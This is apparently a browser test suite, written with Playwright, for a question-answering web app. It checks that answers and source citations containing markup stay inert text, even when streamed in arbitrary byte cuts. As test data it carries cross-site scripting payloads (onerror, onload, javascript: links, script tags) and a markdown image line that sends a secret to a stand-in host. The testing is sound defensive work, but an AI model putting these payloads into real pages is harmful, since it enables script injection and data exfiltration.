"""T-16, T-17, T-19: an answer full of markup stays words, however it is cut, and calls nobody."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser import scripts
from tests.browser.people import Site

# Installed before any script of the page: what an answer must never bring into the document.
WATCH = """
window.seen = [];
new MutationObserver((changes) => {
  for (const change of changes) {
    const added = [...change.addedNodes].filter((node) => node.nodeType === 1);
    const nodes = added.flatMap((node) => [node, ...node.querySelectorAll('*')]);
    if (change.type === 'attributes') nodes.push(change.target);
    for (const node of nodes) {
      if (!node.closest('.answer-text')) continue;
      if (!/^(DIV|P|UL|OL|LI|STRONG|CODE|PRE|BR|BUTTON)$/.test(node.tagName)) seen.push(node.tagName);
      const names = [...node.attributes].map(({ name }) => name);
      seen.push(...names.filter((name) => /^(on|src|href|style|action)/.test(name)));
    }
  }
}).observe(document, { childList: true, subtree: true, attributes: true });
document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
"""

# Answers the page's own fetch with these bytes in two pieces, cut at `cut`.
SERVE = """([text, cut]) => {
  const bytes = new TextEncoder().encode(text);
  const pieces = [bytes.slice(0, cut), bytes.slice(cut)];
  window.fetch = async (address) => address.endsWith('conversations')
    ? new Response('{"id": "00000000-0000-4000-8000-000000000000"}')
    : new Response(new ReadableStream({
        pull(to) { pieces.length ? to.enqueue(pieces.shift()) : to.close(); },
      }));
}"""


@pytest.fixture
def elsewhere() -> list[str]:
    """Every address outside the site that the browser wanted."""
    return []


@pytest.fixture
def watched(browser: Browser, site: Site, elsewhere: list[str]) -> Iterator[Page]:
    context = browser.new_context(base_url=site.address)
    context.set_default_timeout(10_000)

    def guard(route: Route) -> None:
        if route.request.url.startswith(site.address):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    context.route("**/*", guard)
    context.add_init_script(WATCH)
    page = context.new_page()
    site.sign_in(page, site.member)
    yield page
    context.close()


def ask(page: Page, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")


def frames(text: str) -> str:
    """A whole answer as the server sends it: sources, one piece of text, the end."""
    citation = {
        "number": 1, "title": "<img src=x onerror=stolen=1>", "heading": "<b>", "page": None,
        "quote": "<svg onload=stolen=1>", "url": "javascript:stolen=1",
    }  # fmt: skip
    done = {"outcome": "answered", "text": text, "citations": [citation], "total_ms": 1}
    events = [("sources", {"citations": [citation]}), ("delta", {"text": text}), ("done", done)]
    return "".join(f"event: {name}\ndata: {json.dumps(p, ensure_ascii=False)}\n\n" for name, p in events)


def test_a_hostile_answer_sent_letter_by_letter_stays_words(watched: Page, elsewhere: list[str]) -> None:
    ask(watched, scripts.HOSTILE)
    watched.locator('.exchange[data-state="answered"]').wait_for()

    shown = watched.locator(".answer-text").inner_text()
    assert '<img src=x onerror="window.stolen=1"><script>window.stolen=1</script>' in shown
    assert "![pixel](http://evil.test/a.png?q=secret)" in shown
    assert watched.evaluate("window.seen") == []
    assert watched.evaluate("window.stolen") is None
    assert elsewhere == []


def test_a_hostile_answer_is_harmless_wherever_its_bytes_are_cut(watched: Page, elsewhere: list[str]) -> None:
    stream = frames(scripts.HOSTILE_SHORT)
    whole = watched.evaluate(
        """async ([text, serve]) => {
             const install = eval(serve);
             const box = document.querySelector('#question'), form = box.form;
             const shown = new Set();
             for (let cut = 1; cut < new TextEncoder().encode(text).length; cut += 1) {
               document.querySelector('[data-exchanges]').replaceChildren();
               install([text, cut]);
               box.value = 'q';
               form.requestSubmit();
               while (!document.querySelector('[data-stop]').hidden) await new Promise((r) => setTimeout(r));
               shown.add(document.querySelector('.answer-text').textContent);
             }
             return [...shown];
           }""",
        [stream, SERVE],
    )

    assert len(whole) == 1
    assert "<script>stolen=1</script>" in whole[0]
    assert watched.evaluate("window.seen") == []
    assert watched.evaluate("window.stolen") is None
    assert elsewhere == []


def test_a_hostile_title_and_passage_of_a_source_stay_words(watched: Page, elsewhere: list[str]) -> None:
    text = frames("Fine. [1]")
    watched.evaluate(SERVE, [text, len(text)])
    ask(watched, "q")

    card = watched.locator(".source").first
    expect(card.locator(".source-name")).to_have_text("<img src=x onerror=stolen=1>")
    expect(card.locator("blockquote")).to_have_text("<svg onload=stolen=1>")
    assert card.get_by_role("link").get_attribute("href") == "/"
    assert watched.evaluate("window.stolen") is None
    assert elsewhere == []


def test_a_reopened_hostile_answer_stays_words(watched: Page, elsewhere: list[str]) -> None:
    ask(watched, scripts.HOSTILE)
    watched.locator('.exchange[data-state="answered"]').wait_for()
    watched.reload()
    watched.locator(".answer-text[data-rendered]").wait_for()

    assert "<script>window.stolen=1</script>" in watched.locator(".answer-text").inner_text()
    assert watched.evaluate("window.seen") == []
    assert watched.evaluate("window.stolen") is None
    assert elsewhere == []


def test_a_stream_that_ends_early_says_so_and_keeps_nothing(watched: Page) -> None:
    text = frames("Fine. [1]").split("event: done")[0]
    watched.evaluate(SERVE, [text, 10])
    ask(watched, "q")

    failed = watched.locator('.exchange[data-state="failed"]')
    expect(failed).to_contain_text("The connection ended before the answer did.")
    expect(failed.locator(".answer-text")).to_be_empty()
